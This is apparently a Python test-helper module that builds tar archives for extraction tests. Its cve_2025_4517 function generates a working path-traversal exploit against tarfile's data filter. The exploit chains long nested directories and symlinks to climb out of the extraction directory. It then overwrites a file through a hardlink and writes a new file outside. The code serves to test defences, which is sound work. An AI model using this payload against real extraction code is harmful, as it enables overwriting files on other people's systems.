"""Hostile (and honest) tar archives built member by member, for the extraction tests.

:func:`cve_2025_4517` is the PATH_MAX symlink-chain attack on ``tarfile``'s ``filter="data"``
(Python <= 3.11.12, 3.12.10, 3.13.3): sixteen nested directories with 247-character names and a
one-letter symlink to each, a link at the bottom that climbs back out with sixteen ``..``
(``os.path.realpath`` gives up expanding it past PATH_MAX, so the filter judges it lexically),
``escape`` pointing through it to the parent of the extraction dir, then a hardlink to
``escape/flag``, a file written over that hardlink, and ``escape/newfile``.
"""

from __future__ import annotations

import hashlib
import io
import os
import tarfile
from pathlib import Path

Entry = tuple[tarfile.TarInfo, "bytes | None"]


def entry(name: str, kind: str = "file", data: bytes = b"", link: str = "", mode: int | None = None) -> Entry:
    """One member: ``kind`` is file, dir, symlink, hardlink, chr or fifo."""
    m = tarfile.TarInfo(name)
    m.type = {"file": tarfile.REGTYPE, "dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE,
              "hardlink": tarfile.LNKTYPE, "chr": tarfile.CHRTYPE, "fifo": tarfile.FIFOTYPE}[kind]
    m.linkname = link
    m.mode = mode if mode is not None else (0o755 if kind == "dir" else 0o644)
    m.mtime = 1_700_000_000
    if kind == "file":
        m.size = len(data)
        return m, data
    return m, None


def write_tar(path: Path, entries: list[Entry]) -> str:
    """Write ``entries`` in order to ``path`` (gzip when it ends in .gz); its sha256."""
    with tarfile.open(path, "w:gz" if path.name.endswith(".gz") else "w") as tf:
        for m, data in entries:
            tf.addfile(m, io.BytesIO(data) if data is not None else None)
    return hashlib.sha256(path.read_bytes()).hexdigest()


def cve_2025_4517(prefix: str = "") -> list[Entry]:
    """The members of the attack, each name under ``prefix`` (e.g. ``"rocmbuild-artifact/"``)."""
    comp, steps = "d" * 247, "abcdefghijklmnop"
    out: list[Entry] = []
    path = ""
    for s in steps:
        out.append(entry(prefix + os.path.join(path, comp), "dir", mode=0o777))
        out.append(entry(prefix + os.path.join(path, s), "symlink", link=comp))
        path = os.path.join(path, comp)
    linkpath = os.path.join(*steps, "l" * 254)
    up = prefix.count("/")  # the escape must leave the extraction dir, not just the prefix
    out.append(entry(prefix + linkpath, "symlink", link=os.path.join(*[".."] * len(steps))))
    out.append(entry(prefix + "escape", "symlink", link=os.path.join(linkpath, "..", *[".."] * up)))
    out.append(entry(prefix + "flaglink", "hardlink", link=prefix + "escape/flag"))
    out.append(entry(prefix + "flaglink", data=b"overwritten through the chain\n"))
    out.append(entry(prefix + "escape/newfile", data=b"written outside\n"))
    return out
